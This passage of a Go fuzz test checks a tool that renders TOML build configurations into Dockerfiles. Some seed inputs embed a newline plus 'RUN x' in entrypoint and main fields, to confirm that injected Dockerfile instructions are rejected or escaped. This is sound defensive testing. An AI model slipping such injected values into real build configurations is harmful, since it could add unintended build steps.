	t.Logf("%d of %d nasty inputs rendered and parsed exactly as intended", rendered, len(set.Languages())*len(nasty)*24)
}

func FuzzParseConfig(f *testing.F) {
	set := templateSet(f)
	for _, s := range []string{
		"",
		"name = \"api\"\nlanguage = \"go\"\n",
		fullConfig,
		"name = \"api\"\nlanguage = \"node\"\nentrypoint = [\"node\", \"a\\nRUN x\"]\n[labels]\n\"a.b\" = \"$HOME \\\\\"\n",
		"name = \"api\"\nlanguage = \"python\"\n[[secret]]\nid = \"x\"\n[[secret]]\nid = \"x\"\n",
		"[healthcheck]\nbogus = 1\n",
		"name = 'a'\nlanguage = 'rust'\nport = 70000\n",
		"name = \"api\"\nlanguage = \"ruby\"\nmain = \"app.rb\"\nentrypoint = [\"bundle\", \"exec\", \"puma\"]\n[env]\nRAILS_ENV = \"production\"\n[[secret]]\nid = \"bundle_gems__example__com\"\nenv = \"BUNDLE_GEMS__EXAMPLE__COM\"\n",
		"name = \"api\"\nlanguage = \"go\"\n[env]\nX = \"\\u2028\"\n",
		"name = \"api\"\nlanguage = \"elixir\"\nmain = \"api\"\n[[secret]]\nid = \"hex_api_key\"\nenv = \"HEX_API_KEY\"\n",
		"name = \"api\"\nlanguage = \"elixir\"\nmain = \"api-1\\nRUN x\"\nversion = \"1.17.2-erlang-27.0.1\"\n",
	} {
		f.Add([]byte(s))
	}
	if b, err := os.ReadFile("../config/testdata/full.toml"); err == nil {
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, src []byte) {
		p, err := config.Parse("slipway.toml", src)
		if err != nil {
			if !config.IsInvalid(err) {
				t.Fatalf("Parse error is not a configuration error: %T %v", err, err)
			}
			if !strings.HasPrefix(err.Error(), "slipway.toml") {
				t.Fatalf("Parse error does not name the file: %v", err)
			}
			return
		}
		out, err := generate.Render(set, p, nil)
		if err != nil {
			if !config.IsInvalid(err) {
				t.Fatalf("Render error is not a configuration error: %T %v", err, err)
			}
			return
		}
		if _, err := parseDockerfile(out.Dockerfile); err != nil {
			t.Fatalf("Render succeeded but BuildKit cannot parse the result: %v\nslipway.toml:\n%s\nDockerfile:\n%s", err, src, out.Dockerfile)
		}
		checkHygiene(t, out.Dockerfile)
	})
}

const fullConfig = `name = "api"
language = "go"
version = "1.26"
base = "distroless-base"
main = "./cmd/api"
build_command = ["go", "build", "-o", "/out/app", "./cmd/api"]
entrypoint = ["/app/api"]
cmd = ["serve", "--listen=:8080"]
port = 8080
user = 65532
build_packages = ["libssl-dev"]
cgo = true
size_budget = "40MB"

[healthcheck]
command = ["/app/api", "-healthcheck"]
interval = "15s"
timeout = "3s"
start_period = "10s"
retries = 5

[[secret]]
id = "netrc"
target = "/root/.netrc"

[[secret]]
id = "gh_token"
env = "GH_TOKEN"
optional = true

[labels]
"com.example.team" = "payments"

[env]
LOG_LEVEL = "info"
`
